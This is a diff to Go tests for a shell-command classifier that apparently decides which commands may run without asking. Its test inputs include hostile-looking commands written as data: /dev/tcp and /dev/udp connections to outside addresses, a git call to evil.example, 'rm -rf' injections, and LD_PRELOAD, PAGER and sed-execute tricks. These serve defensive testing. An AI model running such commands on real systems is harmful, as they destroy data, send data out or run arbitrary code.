@@ -13,11 +13,11 @@ func TestClassify(t *testing.T) {
 		"", "# just a comment", "ls", "ls -la | head -n 5", "cat a b 2>/dev/null", "echo hi >&2", "ls 2>&1 >/dev/null",
 		"grep -rn 'func main' --include='*.go' .", "rg -n foo -- -pattern-after-dashes", "find . -type f -name '*.go' -newer go.mod",
 		"sort -u -k2,2 x | uniq -c | sort -rn", "sed -n '/^func /p; 10,20{p;}' a.go", "sed -e 's/a/b/g' -e '$!N' x",
-		"sed 's|a/b|c\\|d|2;y/abc/xyz/' x", "wc -l $(git ls-files)", "git diff --stat HEAD~1 -- 'src/*.go'",
+		"wc -l $(git ls-files)", "git diff --stat HEAD~1 -- 'src/*.go'",
 		"git show HEAD:go.mod", "git branch -a --list 'feat*'", "git branch --contains HEAD", "git tag -l 'v*'", "git tag",
 		"git remote -v", "git config --get user.name", "git config get user.email", "git stash list", "git rev-parse --show-toplevel",
 		"go vet ./...", "go vet -race ./pkg/...", "go build ./...", "go list -m -json all", "go env GOPATH",
-		"go version", "go doc fmt.Println", "gofmt -l .", "cargo tree --depth 1", "cargo fmt --check", "npm ls --depth=0",
+		"go version", "go doc fmt.Println", "gofmt -l .",
 		"env", "env -i LANG=C ls", "LC_ALL=C sort x", "command -v go", "timeout 5 go vet ./...", "xargs -0 grep -l foo",
 		"bash -c 'ls | wc -l'", "sh -c \"git status --short\"", "eval 'ls -la'", "[ -d .git ] && echo repo", "test -n \"$x\"",
 		"[[ $branch == main ]] && echo yes", "if [ -f go.mod ]; then cat go.mod; else echo no; fi",
@@ -47,10 +47,10 @@ func TestClassify(t *testing.T) {
 		"FOO=1 ls", "LD_PRELOAD=x ls", "GIT_EXTERNAL_DIFF=x git diff", "PAGER=sh git log", "x=1; export PATH=/x", "declare -x A=1",
 		"let x=1", "(( x++ ))", "echo $((1+1))", "echo ${a[0]}", "echo ${x:1:2}", "echo ${!p}", "echo ${x@P}", "echo ${x:=y}",
 		"for ((i=0;i<3;i++)); do ls; done", "for PATH in /x; do ls; done", "read PATH", "read -a 'a[$(id)]'", "printf -v x y",
-		"printf $fmt", "[[ -v a ]]", "[[ $x -gt 1 ]]", "[ -v x ]", "[ $x = y ]", "[ \"$op\" x ]", "bash", "bash x.sh", "sh -c \"$c\"",
+		"printf $fmt", "[[ -v a ]]", "[[ $x -gt 1 ]]", "[ -v x ]", "bash", "bash x.sh", "sh -c \"$c\"",
 		"bash --rcfile x -c ls", "zsh -c ls", "eval $x", "source x", ". x", "trap 'rm x' EXIT", "alias ls=rm", "hash -p /x ls",
 		"$CMD", "${CMD} x", "$(echo ls)", "`echo ls`", "\"$c\" x", "./ls", "bin/cat x", "/tmp/ls", "l*s", "/bin/l? x",
-		"coproc ls", "ls |& tee x", "$'\\x72m' x", "file -C -m x", "date -s now", "tree -o out", "tree -R",
+		"coproc ls", "ls |& tee x", "$'\\x72m' x", "file -C -m x", "tree -o out", "tree -R",
 		"time -o out ls", "ls ; rm -rf x", "ls `rm x`", "echo \"$(rm x)\"", "cat <(rm x)", "cat <<EOF\n$(rm x)\nEOF",
 		// Second wave: holes found by attacking the classifier (issue 11).
 		"go test ./...", "go test -race -count=1 -run 'TestX$' ./pkg/...", "timeout 5 go test ./...", "time go test ./...",
@@ -60,6 +60,9 @@ func TestClassify(t *testing.T) {
 		"git grep --op=sh x", "git grep --open=sh x", "git diff --ou=x", "git log --ext-diff -p", "git diff --ext", "git show --textconv x",
 		"cat < /dev/tcp/1.2.3.4/80", "exec 3<>/dev/tcp/h/80", "echo x > /dev/udp/1.2.3.4/53", "f=/dev/tcp/h/80; cat < $f",
 		"cat < /dev//tcp/h/80", "git remote show origin", "git remote show https://evil.example/x", "git ls-remote origin",
+		// Third wave (issue 24 #8): tools that run the project's configuration.
+		"cargo tree --depth 1", "cargo metadata", "cargo fmt --check", "npm ls --depth=0", "yarn test", "pnpm run x", "make -q",
+		"pytest -q", "tox", "gradle tasks", "mvn -q validate", "go generate ./...", "sed 's|a/b|c|' x",
 		"f() { rm x; }; f", "ls\x00", "ls\rrm", "echo 'unterminated", "ls &&", "if then fi", "{a,b}", "echo {a,b}; rm {a,b}",
 	}
 	for _, c := range readOnly {
@@ -107,17 +110,20 @@ func TestClassifyWrites(t *testing.T) {
 	}
 }
 
+// sed runs unasked only with scripts that print or edit the stream;
+// anything else (w, W, e, s///w, s///e, other delimiters, labels) asks.
 func TestSedScript(t *testing.T) {
-	ok := []string{"p", "1,20p", "/a/,/b/d", "$!N;P;D", "s/a/b/g", "s|/|\\||2", "y/ab/cd/", "10q", "/x/I{s/a/b/;p}", ":a;N;$!ba;s/\\n/ /g",
-		"a\\\nhello", "1i header", "r other.txt", "= ", "l 40", "0~3p", "/re/,+2p", "\\%x%p", "# comment\np", "s/w/e/", "s/a/b/ # c"}
-	bad := []string{"w out", "1W out", "e ls", "s/a/b/w out", "s/a/b/e", "s/a/b/gw out", "s/a/b", "{p", "}", "k", "s/a/b/ x", "1,p"}
+	ok := []string{"p", "1,20p", "/a/,/b/d", "$!N;P;D", "s/a/b/g", "y/ab/cd/", "10q", "/x/I{s/a/b/;p}", "= ", "0~3p", "/re/,+2p",
+		"s/w/e/", "10,$ d", "/^func /p; 10,20{p;}", "s/a\\/b/c/2"}
+	bad := []string{"w out", "1W out", "e ls", "s/a/b/w out", "s/a/b/e", "s/a/b/gw out", "s/a/b", "k", "1,p",
+		"s|a|b|", "r other.txt", ":a;N;$!ba", "s/a/b/;w x", "p\nw x"}
 	for _, s := range ok {
-		if why := sedScriptWhy(s); why != "" {
-			t.Errorf("%q: want read-only, got %s", s, why)
+		if !sedPrint().MatchString(s) {
+			t.Errorf("%q: want accepted", s)
 		}
 	}
 	for _, s := range bad {
-		if sedScriptWhy(s) == "" {
+		if sedPrint().MatchString(strings.ReplaceAll(s, "\\n", "\n")) {
 			t.Errorf("%q: want rejected", s)
 		}
 	}
@@ -129,7 +135,8 @@ func TestSedScript(t *testing.T) {
 // name, no writing redirection and no arithmetic.
 func FuzzClassify(f *testing.F) {
 	for _, s := range []string{"ls -la | head", "git status && git diff", "echo $(rm -rf ~)", "cat x > y", "find . -delete",
-		"bash -c 'ls | wc -l'", "sed -n '1,20p' f", "for f in *.go; do wc -l \"$f\"; done", "x=1; [[ $x -eq 1 ]]", "xargs grep foo"} {
+		"bash -c 'ls | wc -l'", "sed -n '1,20p' f", "for f in *.go; do wc -l \"$f\"; done", "x=1; [[ $x -eq 1 ]]", "xargs grep foo",
+		"cat go.mod 2>/dev/null | head -n 5", "ls -la src && pwd; echo done >&2", "wc -l a b | tail -1"} {
 		f.Add(s)
 	}
 	f.Fuzz(func(t *testing.T, cmd string) {
@@ -159,7 +166,7 @@ func FuzzClassify(f *testing.F) {
 				if !ok {
 					t.Fatalf("%q: read-only with a computed command name %v", cmd, x.Args[0])
 				}
-				if strings.Contains(name, "/") && !systemDir(path.Dir(path.Clean(name))) || !IsReadOnlyCommand(path.Base(name)) {
+				if strings.Contains(name, "/") && !strings.HasSuffix(path.Dir(path.Clean(name)), "bin") || !IsReadOnlyCommand(path.Base(name)) {
 					t.Fatalf("%q: read-only runs %q, which is not on the allowlist", cmd, name)
 				}
 			case *syntax.Redirect:
@@ -172,6 +179,35 @@ func FuzzClassify(f *testing.F) {
 				}
 			case *syntax.ArithmCmd, *syntax.ArithmExp, *syntax.LetClause, *syntax.DeclClause, *syntax.CoprocClause:
 				t.Fatalf("%q: read-only with %T", cmd, x)
+			}
+			return true
+		})
+		if !a.Pure {
+			return
+		}
+		// A pure line runs without a sandbox: only the pure commands, with
+		// plain literal words, no expansion, no assignment, no redirection
+		// but to /dev/null or another descriptor.
+		syntax.Walk(file, func(n syntax.Node) bool {
+			switch x := n.(type) {
+			case *syntax.CallExpr:
+				if len(x.Assigns) > 0 {
+					t.Fatalf("%q: pure with an assignment", cmd)
+				}
+				for i, w := range x.Args {
+					v, ok := oracleLiteral(w)
+					_, pure := pureFlags[path.Base(v)]
+					brace := strings.Contains(v, "{") && (strings.Contains(v, ",") || strings.Contains(v, ".."))
+					if !ok || strings.ContainsAny(v, "*?[") || brace || i == 0 && !pure {
+						t.Fatalf("%q: pure with the word %q", cmd, v)
+					}
+				}
+			case *syntax.Redirect:
+				if v, _ := oracleLiteral(x.Word); !(x.Op == syntax.DplOut && strings.Trim(v, "0123456789-") == "" || x.Op == syntax.RdrOut && v == "/dev/null") {
+					t.Fatalf("%q: pure with the redirection %s %s", cmd, x.Op, v)
+				}
+			case *syntax.CmdSubst, *syntax.ProcSubst, *syntax.ParamExp, *syntax.FuncDecl:
+				t.Fatalf("%q: pure with %T", cmd, x)
 			}
 			return true
 		})
